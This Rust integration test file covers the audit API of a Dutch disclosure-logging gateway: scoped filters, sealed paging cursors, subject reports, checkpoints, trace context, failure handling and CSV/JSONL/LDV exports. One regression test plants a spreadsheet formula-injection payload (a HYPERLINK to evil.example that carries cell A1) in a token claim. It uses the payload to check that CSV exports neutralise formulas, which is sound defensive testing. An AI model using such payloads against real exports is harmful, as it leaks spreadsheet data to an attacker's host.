//! The privacy officers' view of the disclosure log over real TLS: filters, scope, paging by sealed cursors,
//! the subject report, checkpoints, W3C trace context, every read recorded before it is answered, and a log that
//! cannot be written answering 503 and recovering by itself. Two gateway instances keep one chain.
use crate::both;
use crate::helpers::*;
use doelpoort::log::chain::{Entry, Kind};
use doelpoort::log::verify::verify;
use doelpoort::types::clock::SystemClock;
use doelpoort::types::Bsn;
use hyper::Method;
use serde_json::Value;
use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;

both!(
    officers_read_records_by_filter_scoped_to_their_organisation,
    paging_follows_sealed_cursors_bound_to_their_query,
    bad_filters_and_missing_roles_are_refused,
    the_subject_report_names_every_recipient,
    checkpoints_are_served_and_sealed_at_shutdown,
    an_unwritable_log_answers_503_releases_nothing_and_recovers,
    two_instances_append_to_one_chain,
    export_writes_filtered_records_as_json_lines_and_csv,
    a_csv_export_neutralises_formulas,
    officers_filter_by_source_recipient_action_and_day,
    the_subject_report_is_also_a_post_and_marks_confidential_categories,
    an_export_records_how_many_records_it_wrote,
    an_ldv_export_holds_one_valid_entry_per_record,
);

const PERSON_A: &str = "123456782";
const PERSON_B: &str = "111222333";

fn pseudonym(gw: &Gateway, bsn: &str) -> String {
    gw.app().pseudonyms.pseudonym(&bsn.parse::<Bsn>().unwrap())
}

fn record(gw: &Gateway, kind: Kind, bsn: &str, source: &str, recipient: &str, category: &str) -> Entry {
    Entry {
        source_oin: Some(source.into()),
        recipient_oin: Some(recipient.into()),
        subject: Some(pseudonym(gw, bsn)),
        case_id: Some("case-1".into()),
        meeting_type: Some("focus".into()),
        purpose: Some("plan_van_aanpak".into()),
        categories: vec![category.into()],
        covenant_version: Some("2026.1".into()),
        article: Some("art. 7".into()),
        ..Entry::new(kind)
    }
}

/// Five records: A disclosed gemeente→zvh and politie→om, B reclassering→zvh, a lookup about A answered to the
/// wijkteam, and a refusal gemeente→wijkteam about A. Returns their sequence numbers in that order.
async fn seed(gw: &Gateway) -> Vec<i64> {
    let entries = vec![
        record(gw, Kind::Disclosure, PERSON_A, GEMEENTE, ZVH, "leefgebieden"),
        record(gw, Kind::Disclosure, PERSON_A, POLITIE, OM, "justitiele_gegevens"),
        record(gw, Kind::Disclosure, PERSON_B, RECLASSERING, ZVH, "toezicht"),
        record(gw, Kind::Lookup, PERSON_A, ZVH, WIJKTEAM, "bekendheid"),
        record(gw, Kind::Refusal, PERSON_A, GEMEENTE, WIJKTEAM, "leefgebieden"),
    ];
    let receipts = gw.app().log.append_all(entries).await.unwrap();
    receipts.iter().map(|r| r.seq()).collect()
}

async fn officer(gw: &Gateway, slug: &'static str, path: &str) -> Response {
    gw.call(&gw.org(slug), &["privacy_officer"], Method::GET, path, None)
        .await
}

fn seqs(r: &Response) -> Vec<i64> {
    r.body["records"]
        .as_array()
        .unwrap_or_else(|| panic!("no records in {}", r.text))
        .iter()
        .map(|r| r["seq"].as_i64().unwrap())
        .collect()
}

async fn officers_read_records_by_filter_scoped_to_their_organisation(b: Backend) {
    let gw = Gateway::start(b).await;
    let s = seed(&gw).await;

    // The FG sees every record about A, newest first, with the W3C trace of its own request answered.
    let host = gw.org(HOST);
    let mut client = gw.connect(Some(&host.identity)).await.unwrap();
    let sent_trace = "4bf92f3577b34da6a3ce929d0e0e4736";
    let r = client
        .send_with(
            Method::GET,
            &format!("/v1/audit/disclosures?bsn={PERSON_A}"),
            Some(&token_for(&host, &["privacy_officer"])),
            &[("traceparent", &format!("00-{sent_trace}-00f067aa0ba902b7-01"))],
            Vec::new(),
        )
        .await
        .unwrap();
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(seqs(&r), vec![s[4], s[3], s[1], s[0]]);
    assert!(!r.text.contains(PERSON_A), "the BSN never leaves in a record");
    assert_eq!(r.body["records"][0]["subject"], pseudonym(&gw, PERSON_A));
    assert_eq!(r.body["next_cursor"], Value::Null);
    let answered = r.headers["traceparent"].to_str().unwrap().to_owned();
    let parts: Vec<&str> = answered.split('-').collect();
    assert_eq!(
        (parts[0], parts[1]),
        ("00", sent_trace),
        "the caller's trace id is kept"
    );
    assert_ne!(parts[2], "00f067aa0ba902b7", "the gateway's span is its own");

    // The read itself is a record, committed before the answer, carrying the trace and request id.
    let read = gw.newest_admin_record().await;
    assert_eq!(
        r.headers["doelpoort-log-record"].to_str().unwrap(),
        read.seq.to_string()
    );
    assert_eq!(read.entry.action.as_deref(), Some("audit.disclosures"));
    assert_eq!(read.entry.actor_oin.as_deref(), Some(ZVH));
    assert_eq!(read.entry.subject, Some(pseudonym(&gw, PERSON_A)));
    assert_eq!(read.entry.trace_id.as_deref(), Some(sent_trace));
    assert_eq!(read.entry.span_id.as_deref(), Some(parts[2]));
    assert_eq!(
        read.entry.request_id.as_deref(),
        r.headers["x-request-id"].to_str().ok()
    );
    assert!(read.entry.detail.as_deref().unwrap().contains("\"returned\":4"));

    // Without a traceparent (or with a malformed one) the gateway starts a trace.
    let r = officer(&gw, HOST, "/v1/audit/disclosures?kind=refusal").await;
    assert_eq!(seqs(&r), vec![s[4]]);
    let fresh = r.headers["traceparent"].to_str().unwrap();
    assert!(!fresh.contains(sent_trace) && fresh.len() == 55, "{fresh}");

    // A partner's officer sees only records its organisation was source or recipient of.
    let r = officer(&gw, "gemeente", &format!("/v1/audit/disclosures?bsn={PERSON_A}")).await;
    assert_eq!(seqs(&r), vec![s[4], s[0]]);
    let r = officer(
        &gw,
        "gemeente",
        &format!("/v1/audit/disclosures?organisation={POLITIE}"),
    )
    .await;
    assert_eq!(
        seqs(&r),
        Vec::<i64>::new(),
        "another organisation's records stay out of reach"
    );
    let r = officer(&gw, "om", "/v1/audit/disclosures?kind=disclosure,lookup,refusal").await;
    assert_eq!(seqs(&r), vec![s[1]]);
    let r = officer(
        &gw,
        HOST,
        &format!("/v1/audit/disclosures?organisation={POLITIE}&case_id=case-1"),
    )
    .await;
    assert_eq!(seqs(&r), vec![s[1]]);

    // Periods: nothing before the records, everything from a minute ago.
    let r = officer(
        &gw,
        HOST,
        "/v1/audit/disclosures?kind=disclosure&to=2000-01-01T00:00:00Z",
    )
    .await;
    assert_eq!(seqs(&r), Vec::<i64>::new());
    let ago = doelpoort::types::clock::rfc3339(time::OffsetDateTime::now_utc() - time::Duration::minutes(1));
    let r = officer(&gw, HOST, &format!("/v1/audit/disclosures?kind=disclosure&from={ago}")).await;
    assert_eq!(seqs(&r), vec![s[2], s[1], s[0]]);
    gw.stop().await;
}

async fn paging_follows_sealed_cursors_bound_to_their_query(b: Backend) {
    let gw = Gateway::start(b).await;
    let s = seed(&gw).await;
    let base = "/v1/audit/disclosures?kind=disclosure,lookup,refusal&limit=2";
    let mut seen = Vec::new();
    let mut path = base.to_owned();
    let mut cursors = Vec::new();
    loop {
        let r = officer(&gw, HOST, &path).await;
        assert_eq!(r.status, 200, "{}", r.text);
        seen.extend(seqs(&r));
        match r.body["next_cursor"].as_str() {
            Some(c) => {
                cursors.push(c.to_owned());
                path = format!("{base}&cursor={c}");
            }
            None => break,
        }
        assert!(seen.len() <= 6, "paging does not end");
    }
    let mut expected = s.clone();
    expected.reverse();
    assert_eq!(seen, expected, "every record once, newest first");

    // A cursor is bound to its filters and to the officer's scope, and cannot be altered.
    let c = &cursors[0];
    officer(&gw, "gemeente", &format!("{base}&cursor={c}"))
        .await
        .assert_problem(422, "validation_failed");
    officer(
        &gw,
        HOST,
        &format!("/v1/audit/disclosures?kind=disclosure&limit=2&cursor={c}"),
    )
    .await
    .assert_problem(422, "validation_failed");
    let (payload, tag) = c.split_once('.').unwrap();
    let mut bytes = payload.as_bytes().to_vec();
    bytes[2] ^= 1;
    let altered = format!("{}.{tag}", String::from_utf8(bytes).unwrap());
    officer(&gw, HOST, &format!("{base}&cursor={altered}"))
        .await
        .assert_problem(422, "validation_failed");
    officer(&gw, HOST, &format!("{base}&cursor=garbage"))
        .await
        .assert_problem(422, "validation_failed");
    gw.stop().await;
}

async fn bad_filters_and_missing_roles_are_refused(b: Backend) {
    let gw = Gateway::start(b).await;
    let (head, _) = gw.app().log.records().head().await.unwrap();
    let r = officer(&gw, HOST, "/v1/audit/disclosures?bsn=123456789").await;
    r.assert_problem(422, "invalid_bsn");
    assert!(!r.text.contains("123456789"), "no error echoes personal data");
    officer(&gw, "gemeente", "/v1/audit/subject-report?bsn=12345678")
        .await
        .assert_problem(422, "invalid_bsn");
    for q in [
        "kind=gossip",
        "from=yesterday",
        "to=2026-13-01T00:00:00Z",
        "organisation=42",
        "limit=0",
        "limit=5000",
        "limit=many",
        "subject=abc",
    ] {
        officer(&gw, HOST, &format!("/v1/audit/disclosures?{q}"))
            .await
            .assert_problem(422, "validation_failed");
    }
    officer(&gw, HOST, "/v1/audit/subject-report")
        .await
        .assert_problem(422, "validation_failed");
    officer(&gw, HOST, "/v1/audit/checkpoints?after=-1")
        .await
        .assert_problem(422, "validation_failed");
    let host = gw.org(HOST);
    for path in [
        "/v1/audit/disclosures",
        "/v1/audit/subject-report?bsn=123456782",
        "/v1/audit/checkpoints",
    ] {
        for roles in [&["professional"][..], &["admin", "procesregisseur"][..]] {
            gw.call(&host, roles, Method::GET, path, None)
                .await
                .assert_problem(403, "forbidden");
        }
        let r = gw
            .connect(Some(&host.identity))
            .await
            .unwrap()
            .send(Method::GET, path, None, None)
            .await;
        assert_eq!(r.unwrap().status, 401);
    }
    let (after, _) = gw.app().log.records().head().await.unwrap();
    assert_eq!(after, head, "refused reads release nothing and record nothing");
    gw.stop().await;
}

async fn the_subject_report_names_every_recipient(b: Backend) {
    let gw = Gateway::start(b).await;
    let s = seed(&gw).await;
    let r = officer(&gw, HOST, &format!("/v1/audit/subject-report?bsn={PERSON_A}")).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.body["truncated"], false);
    let rows = r.body["disclosures"].as_array().unwrap();
    let got: Vec<(i64, &str, &str)> = rows
        .iter()
        .map(|d| {
            (
                d["seq"].as_i64().unwrap(),
                d["recipient"]["oin"].as_str().unwrap(),
                d["kind"].as_str().unwrap(),
            )
        })
        .collect();
    // The refusal released nothing, and B's record is someone else's.
    assert_eq!(
        got,
        vec![
            (s[3], WIJKTEAM, "lookup"),
            (s[1], OM, "disclosure"),
            (s[0], ZVH, "disclosure")
        ]
    );
    assert_eq!(rows[2]["recipient"]["name"], "Zorg- en Veiligheidshuis Demo");
    assert_eq!(rows[2]["source"]["name"], "Gemeente Demo");
    assert_eq!(rows[2]["categories"], serde_json::json!(["leefgebieden"]));
    assert_eq!(rows[2]["meeting_type"], "focus");
    assert_eq!(rows[2]["purpose"], "plan_van_aanpak");
    assert_eq!(rows[2]["article"], "art. 7");
    assert_eq!(rows[2]["covenant_version"], "2026.1");
    let read = gw.newest_admin_record().await;
    assert_eq!(read.entry.action.as_deref(), Some("audit.subject_report"));
    assert_eq!(read.entry.subject, Some(pseudonym(&gw, PERSON_A)));

    // The gemeente's officer learns only about its own organisation's releases.
    let r = officer(&gw, "gemeente", &format!("/v1/audit/subject-report?bsn={PERSON_A}")).await;
    let seqs: Vec<i64> = r.body["disclosures"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["seq"].as_i64().unwrap())
        .collect();
    assert_eq!(seqs, vec![s[0]]);
    let r = officer(&gw, HOST, "/v1/audit/subject-report?bsn=999999990").await;
    assert_eq!(r.body["disclosures"], serde_json::json!([]));
    gw.stop().await;
}

fn r_origin(gw: &Gateway) -> String {
    gw.app().notary.origin.clone()
}

async fn checkpoints_are_served_and_sealed_at_shutdown(b: Backend) {
    let mut gw = Gateway::start_with(b, |c| c.log.checkpoint_interval_secs = 1).await;
    let mut sealed = Vec::new();
    for _ in 0..50 {
        let r = officer(&gw, "politie", "/v1/audit/checkpoints").await;
        assert_eq!(r.status, 200, "{}", r.text);
        assert_eq!(r.body["public_key"], gw.app().checkpoint_public_key.as_str());
        sealed = r.body["checkpoints"].as_array().unwrap().clone();
        if !sealed.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let c = &sealed[0];
    assert_eq!(c["size"], FIXTURE, "the interval sealed the tree");
    assert_eq!(c["seq"], FIXTURE + 1, "the checkpoint is the next record");
    assert_eq!(r_origin(&gw), c["note"].as_str().unwrap().lines().next().unwrap());
    let note = gw
        .app()
        .trust()
        .open(c["note"].as_str().unwrap())
        .expect("a note signed by the gateway's key");
    assert_eq!(note.root, gw.app().log.records().root(FIXTURE as u64).await.unwrap());
    // Fetching checkpoints records nothing (the head would move at every poll).
    assert_eq!(gw.app().log.records().head().await.unwrap().0, FIXTURE + 1);

    // A record written just before shutdown is sealed by the shutdown checkpoint.
    let receipt = gw
        .app()
        .log
        .append(record(&gw, Kind::Disclosure, PERSON_B, GEMEENTE, ZVH, "leefgebieden"))
        .await
        .unwrap();
    let store = gw.app().store.clone();
    let url = gw.config().database_url;
    drop(store);
    gw.stop_server().await;
    let store = doelpoort::store::Store::connect(&url).await.unwrap();
    let records = doelpoort::log::Records::new(store.clone());
    assert_eq!(records.latest_note().await.unwrap().unwrap().size, receipt.seq());
    store.close().await;
    gw.stop().await;
}

async fn an_unwritable_log_answers_503_releases_nothing_and_recovers(b: Backend) {
    let gw = Gateway::start_with(b, |c| c.log.append_timeout_millis = 700).await;
    seed(&gw).await;
    let path = format!("/v1/audit/disclosures?bsn={PERSON_A}");
    assert_eq!(officer(&gw, HOST, &path).await.status, 200);

    // Another session holds the chain head's write lock: no record can commit.
    sqlx::any::install_default_drivers();
    let blocker = sqlx::AnyPool::connect(&gw.config().database_url).await.unwrap();
    let mut tx = blocker.begin().await.unwrap();
    sqlx::query("UPDATE log_head SET locked_at = 'test' WHERE id = 1")
        .execute(&mut *tx)
        .await
        .unwrap();
    let (head, _) = gw.app().log.records().head().await.unwrap();
    let r = officer(&gw, HOST, &path).await;
    r.assert_problem(503, "audit_unavailable");
    assert!(r.body.get("records").is_none() && !r.text.contains(&pseudonym(&gw, PERSON_A)));
    let health = gw
        .connect(Some(&gw.org("om").identity))
        .await
        .unwrap()
        .send(Method::GET, "/healthz", None, None)
        .await;
    let health = health.unwrap();
    assert_eq!(
        (health.status.as_u16(), health.body["status"].as_str()),
        (503, Some("audit_unavailable"))
    );
    // The gauge is the process's, shared by every gateway of this test binary; this gateway's own state is its log's.
    assert!(reqwest_metrics(&gw).await.contains("doelpoort_log_available"));
    assert!(!gw.app().log.healthy().await, "the log says it cannot be written");

    // The database comes back: the gateway recovers by itself, and the refused read left no record.
    tx.rollback().await.unwrap();
    blocker.close().await;
    let mut recovered = false;
    for _ in 0..50 {
        let r = officer(&gw, HOST, &path).await;
        if r.status == 200 {
            recovered = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(recovered, "the gateway did not recover within 5 s");
    let (after, _) = gw.app().log.records().head().await.unwrap();
    assert_eq!(after, head + 1, "only the successful read is recorded");
    assert!(gw.app().log.healthy().await, "and says it can again");
    verify(gw.app().log.records(), &gw.app().trust(), |_, _| {})
        .await
        .unwrap();
    gw.stop().await;
}

async fn two_instances_append_to_one_chain(b: Backend) {
    let gw = Gateway::start(b).await;
    let second = gw.another_instance(Arc::new(SystemClock)).await;
    let (head, _) = gw.app().log.records().head().await.unwrap();

    // Both instances write at once: officers' reads through each, and direct appends on each writer.
    let host = gw.org(HOST);
    let token = token_for(&host, &["privacy_officer"]);
    let mut tasks = Vec::new();
    for i in 0..8 {
        let addr = if i % 2 == 0 { gw.addr } else { second.addr };
        let (ca, id, token) = (gw.ca_pem.clone(), host.identity.clone(), token.clone());
        tasks.push(tokio::spawn(async move {
            let mut c = Client::connect(addr, &ca, Some(&id)).await.unwrap();
            for _ in 0..5 {
                let r = c
                    .send(Method::GET, "/v1/audit/disclosures?limit=1", Some(&token), None)
                    .await
                    .unwrap();
                assert_eq!(r.status, 200, "{}", r.text);
            }
        }));
        let log = if i % 2 == 0 {
            gw.app().log.clone()
        } else {
            second.app.log.clone()
        };
        let entry = record(&gw, Kind::Disclosure, PERSON_B, GEMEENTE, ZVH, "leefgebieden");
        tasks.push(tokio::spawn(async move {
            for _ in 0..10 {
                log.append(entry.clone()).await.unwrap();
            }
        }));
    }
    for t in tasks {
        t.await.unwrap();
    }
    second.shutdown().await;
    let report = verify(gw.app().log.records(), &gw.app().trust(), |_, _| {})
        .await
        .unwrap();
    // The second instance sealed a checkpoint when it shut down: one more record.
    assert_eq!(
        report.records,
        head + 8 * 5 + 8 * 10 + 1,
        "one contiguous chain holds every record"
    );
    let all = gw.app().log.records().page(head, 1000).await.unwrap();
    let distinct: BTreeSet<i64> = all.iter().map(|r| r.seq).collect();
    assert_eq!(distinct.len(), 121);
    let checkpoints = all
        .iter()
        .filter(|r| doelpoort::log::verify::checkpoint_size(r).is_some());
    assert_eq!(checkpoints.count(), 1);
    gw.stop().await;
}

fn doelpoort(gw: &Gateway, args: &[&str]) -> std::process::Output {
    gw.cli(args)
}

async fn export_writes_filtered_records_as_json_lines_and_csv(b: Backend) {
    let gw = Gateway::start(b).await;
    let s = seed(&gw).await;
    let out = doelpoort(
        &gw,
        &[
            "audit",
            "export",
            "--format",
            "jsonl",
            "--bsn",
            PERSON_A,
            "--kind",
            "disclosure",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    let rows: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let got: Vec<i64> = rows.iter().map(|r| r["seq"].as_i64().unwrap()).collect();
    assert_eq!(got, vec![s[0], s[1]], "oldest first, only A's disclosures");
    assert!(!text.contains(PERSON_A));
    assert_eq!(rows[0]["categories"], serde_json::json!(["leefgebieden"]));

    // The export was recorded before it was written, with the subject as pseudonym.
    let read = gw.newest_admin_record().await;
    assert_eq!(read.entry.action.as_deref(), Some("audit.export"));
    assert_eq!(read.entry.subject, Some(pseudonym(&gw, PERSON_A)));

    let file = gw.dir.path().join("export.csv");
    let out = doelpoort(
        &gw,
        &[
            "audit",
            "export",
            "--format",
            "csv",
            "--organisation",
            GEMEENTE,
            "--out",
            file.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("exported 2 records"));
    let csv = std::fs::read_to_string(&file).unwrap();
    let lines: Vec<&str> = csv.lines().collect();
    assert!(lines[0].starts_with("seq,at,kind,source_oin,recipient_oin"));
    assert_eq!(lines.len(), 3, "{csv}");
    assert!(lines[1].starts_with(&format!("{},", s[0])) && lines[2].starts_with(&format!("{},", s[4])));

    for bad in [
        &["audit", "export", "--format", "xml"][..],
        &["audit", "export", "--format", "csv", "--bsn", "123456789"][..],
        &["audit", "export", "--format", "csv", "--from", "yesterday"][..],
    ] {
        let out = doelpoort(&gw, bad);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{bad:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(!String::from_utf8_lossy(&out.stderr).contains("123456789"));
    }
    // audit verify compares checkpoint keys with the configured one: the shipped config's key passes.
    let out = doelpoort(&gw, &["audit", "verify"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    gw.stop().await;
}

/// Regression (found by the attack round): a token `sub` of `=HYPERLINK(…)` landed in the CSV export as a live
/// spreadsheet cell.
async fn a_csv_export_neutralises_formulas(b: Backend) {
    let gw = Gateway::start(b).await;
    let politie = gw.org("politie");
    let mut claims = claims(&politie, &["professional"]);
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")";
    claims["sub"] = Value::from(formula);
    let token = mint(&politie.key, header(&politie.key), claims);
    let mut c = gw.connect(Some(&politie.identity)).await.unwrap();
    let report = serde_json::json!({"subject": {"bsn": PERSON_A}, "summary": "Zorgen"});
    let r = c
        .send(Method::POST, "/v1/cases", Some(&token), Some(report))
        .await
        .unwrap();
    assert_eq!(r.status, 201, "{}", r.text);

    let file = gw.dir.path().join("export.csv");
    let out = doelpoort(
        &gw,
        &["audit", "export", "--format", "csv", "--out", file.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let mut reader = csv::Reader::from_path(&file).unwrap();
    let column = reader.headers().unwrap().iter().position(|h| h == "actor_sub").unwrap();
    let subs: Vec<String> = reader
        .records()
        .map(|r| r.unwrap().get(column).unwrap_or_default().to_owned())
        .collect();
    assert!(subs.contains(&format!("'{formula}")), "{subs:?}");
    assert!(!subs.iter().any(|s| s.starts_with('=')), "{subs:?}");
    gw.stop().await;
}

async fn officers_filter_by_source_recipient_action_and_day(b: Backend) {
    let gw = Gateway::start(b).await;
    let s = seed(&gw).await;
    let q = |query: &str| format!("/v1/audit/disclosures?kind=disclosure,lookup,refusal&{query}");
    // `organisation` matches either side; `source` and `recipient` only their own.
    let r = officer(&gw, HOST, &q(&format!("organisation={ZVH}"))).await;
    assert_eq!(seqs(&r), vec![s[3], s[2], s[0]]);
    let r = officer(&gw, HOST, &q(&format!("source={ZVH}"))).await;
    assert_eq!(seqs(&r), vec![s[3]]);
    let r = officer(&gw, HOST, &q(&format!("recipient={ZVH}"))).await;
    assert_eq!(seqs(&r), vec![s[2], s[0]]);
    let r = officer(&gw, HOST, &q(&format!("source={GEMEENTE}&recipient={WIJKTEAM}"))).await;
    assert_eq!(seqs(&r), vec![s[4]]);
    // A partner's officer stays within its scope whatever it names.
    let r = officer(&gw, "gemeente", &q(&format!("recipient={ZVH}"))).await;
    assert_eq!(seqs(&r), vec![s[0]]);

    // Records carry the organisations' names beside their OINs.
    let r = officer(&gw, HOST, &q(&format!("source={ZVH}"))).await;
    let record = &r.body["records"][0];
    assert_eq!(record["source_oin"], ZVH);
    assert_eq!(record["source_name"], "Zorg- en Veiligheidshuis Demo");
    assert_eq!(record["recipient_name"], "Sociaal Wijkteam Demo");

    // `action` narrows admin records; the reads above are `audit.disclosures` records.
    let r = officer(&gw, HOST, "/v1/audit/disclosures?kind=admin&action=audit.disclosures").await;
    let actions: BTreeSet<String> = r.body["records"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["action"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(actions, BTreeSet::from(["audit.disclosures".to_owned()]), "{}", r.text);
    assert_eq!(r.body["records"][0]["actor_name"], "Zorg- en Veiligheidshuis Demo");
    let r = officer(&gw, HOST, "/v1/audit/disclosures?action=organisation.add,audit.nothing").await;
    assert!(seqs(&r).len() >= 8, "the demo's organisations were added: {}", r.text);

    // A day stands for the whole UTC day: `from` its start, `to` its end (inclusive).
    let first = gw.app().log.records().page(s[0] - 1, 1).await.unwrap().remove(0);
    let today = time::Date::parse(
        &first.at[..10],
        time::macros::format_description!("[year]-[month]-[day]"),
    )
    .unwrap();
    let day = |d: time::Date| d.to_string();
    let (yesterday, tomorrow) = (today.previous_day().unwrap(), today.next_day().unwrap());
    let kind = "kind=disclosure";
    for (query, want) in [
        (format!("from={}&to={}", day(today), day(today)), vec![s[2], s[1], s[0]]),
        (format!("to={}", day(yesterday)), vec![]),
        (format!("from={}", day(tomorrow)), vec![]),
        (
            format!("from={}&to={}", day(yesterday), day(tomorrow)),
            vec![s[2], s[1], s[0]],
        ),
    ] {
        let r = officer(&gw, HOST, &format!("/v1/audit/disclosures?{kind}&{query}")).await;
        assert_eq!(seqs(&r), want, "{query}");
    }
    for bad in [
        "from=2026-02-30",
        "to=26-01-01",
        &format!("source={}", "1".repeat(19)),
        "recipient=x",
        "action=",
        &format!("action={}", "a".repeat(129)),
    ] {
        officer(&gw, HOST, &format!("/v1/audit/disclosures?{bad}"))
            .await
            .assert_problem(422, "validation_failed");
    }
    gw.stop().await;
}

async fn the_subject_report_is_also_a_post_and_marks_confidential_categories(b: Backend) {
    let gw = Gateway::start(b).await;
    let mut secret = record(&gw, Kind::Disclosure, PERSON_A, POLITIE, ZVH, "politie_details");
    secret.categories.push("politie_samenvatting".into());
    let receipts = gw.app().log.append_all(vec![secret]).await.unwrap();
    let host = gw.org(HOST);
    let body = serde_json::json!({ "bsn": PERSON_A });
    let r = gw
        .call(
            &host,
            &["privacy_officer"],
            Method::POST,
            "/v1/audit/subject-report",
            Some(body),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let row = &r.body["disclosures"][0];
    assert_eq!(row["seq"], receipts[0].seq());
    assert_eq!(
        row["categories"],
        serde_json::json!(["politie_details", "politie_samenvatting"])
    );
    assert_eq!(row["confidential_categories"], serde_json::json!(["politie_details"]));
    let read = gw.newest_admin_record().await;
    assert_eq!(read.entry.action.as_deref(), Some("audit.subject_report"));
    assert_eq!(read.entry.subject, Some(pseudonym(&gw, PERSON_A)));
    assert!(!read.entry.detail.unwrap_or_default().contains(PERSON_A));

    // The same refusals as the GET: a bad BSN, a body that is not the report's, a role that is not an officer's.
    for (roles, body, code) in [
        (
            &["privacy_officer"][..],
            serde_json::json!({"bsn": "123456789"}),
            "invalid_bsn",
        ),
        (
            &["privacy_officer"][..],
            serde_json::json!({"bsn": PERSON_A, "x": 1}),
            "validation_failed",
        ),
        (&["privacy_officer"][..], serde_json::json!({}), "validation_failed"),
        (&["admin"][..], serde_json::json!({"bsn": PERSON_A}), "forbidden"),
    ] {
        let r = gw
            .call(&host, roles, Method::POST, "/v1/audit/subject-report", Some(body))
            .await;
        let status = if code == "forbidden" { 403 } else { 422 };
        r.assert_problem(status, code);
        assert!(!r.text.contains("123456789"));
    }
    gw.stop().await;
}

async fn an_export_records_how_many_records_it_wrote(b: Backend) {
    let gw = Gateway::start(b).await;
    let s = seed(&gw).await;
    let out = doelpoort(
        &gw,
        &[
            "audit",
            "export",
            "--format",
            "jsonl",
            "--source",
            GEMEENTE,
            "--kind",
            "disclosure,refusal",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let got: Vec<i64> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["seq"].as_i64().unwrap())
        .collect();
    assert_eq!(got, vec![s[0], s[4]]);
    let read = gw.newest_admin_record().await;
    assert_eq!(read.entry.action.as_deref(), Some("audit.export"));
    let detail: Value = serde_json::from_str(read.entry.detail.as_deref().unwrap()).unwrap();
    assert_eq!(detail["returned"], 2);
    assert_eq!(detail["source"], GEMEENTE);

    // An export of admin records ends before its own record: the count it carries is what it wrote.
    let out = doelpoort(
        &gw,
        &[
            "audit",
            "export",
            "--format",
            "jsonl",
            "--kind",
            "admin",
            "--action",
            "audit.export",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let written = String::from_utf8(out.stdout).unwrap().lines().count();
    assert_eq!(written, 1, "only the earlier export");
    let read = gw.newest_admin_record().await;
    let detail: Value = serde_json::from_str(read.entry.detail.as_deref().unwrap()).unwrap();
    assert_eq!(detail["returned"], 1);
    assert_eq!(detail["actions"], serde_json::json!(["audit.export"]));
    gw.stop().await;
}

/// `audit export --format ldv`: every line is valid under `docs/ldv.schema.json`, carries the pseudonym (never the
/// BSN) as data subject, and says a refusal was not done.
async fn an_ldv_export_holds_one_valid_entry_per_record(b: Backend) {
    let gw = Gateway::start(b).await;
    let s = seed(&gw).await;
    // A record made in a request, with its trace context.
    let r = officer(&gw, HOST, "/v1/audit/disclosures?limit=1").await;
    assert_eq!(r.status, 200, "{}", r.text);
    let out = doelpoort(&gw, &["audit", "export", "--format", "ldv"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(!text.contains(PERSON_A) && !text.contains(PERSON_B));
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/ldv.schema.json")).unwrap(),
    )
    .unwrap();
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .unwrap();
    let entries: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(entries.len() as i64 > FIXTURE + 5, "{} entries", entries.len());
    for e in &entries {
        let problems: Vec<String> = validator.iter_errors(e).map(|p| p.to_string()).collect();
        assert!(problems.is_empty(), "{e}: {problems:?}");
    }
    let by_seq = |seq: i64| {
        entries
            .iter()
            .find(|e| e["attributes"]["doelpoort.seq"] == seq)
            .unwrap()
            .clone()
    };
    let disclosed = by_seq(s[0]);
    assert_eq!(
        disclosed["attributes"]["dpl.core.data_subject_id"],
        pseudonym(&gw, PERSON_A)
    );
    assert_eq!(
        disclosed["attributes"]["dpl.core.processing_activity_id"],
        "urn:doelpoort:activity:focus:plan_van_aanpak"
    );
    assert_eq!(disclosed["status_code"], "STATUS_CODE_OK");
    assert_eq!(
        by_seq(s[4])["status_code"],
        "STATUS_CODE_ERROR",
        "a refusal was not done"
    );
    let read = entries.iter().find(|e| e["name"] == "audit.disclosures").unwrap();
    let record = gw
        .app()
        .log
        .records()
        .record(read["attributes"]["doelpoort.seq"].as_i64().unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        Some(read["trace_id"].as_str().unwrap()),
        record.entry.trace_id.as_deref(),
        "the request's trace"
    );

    // The schema is not a formality: an entry without its trace, or with a BSN-shaped subject, is refused.
    let mut broken = disclosed.clone();
    broken.as_object_mut().unwrap().remove("trace_id");
    assert!(!validator.is_valid(&broken));
    let mut broken = disclosed;
    broken["attributes"]["dpl.core.data_subject_id"] = PERSON_A.into();
    assert!(!validator.is_valid(&broken));
    gw.stop().await;
}
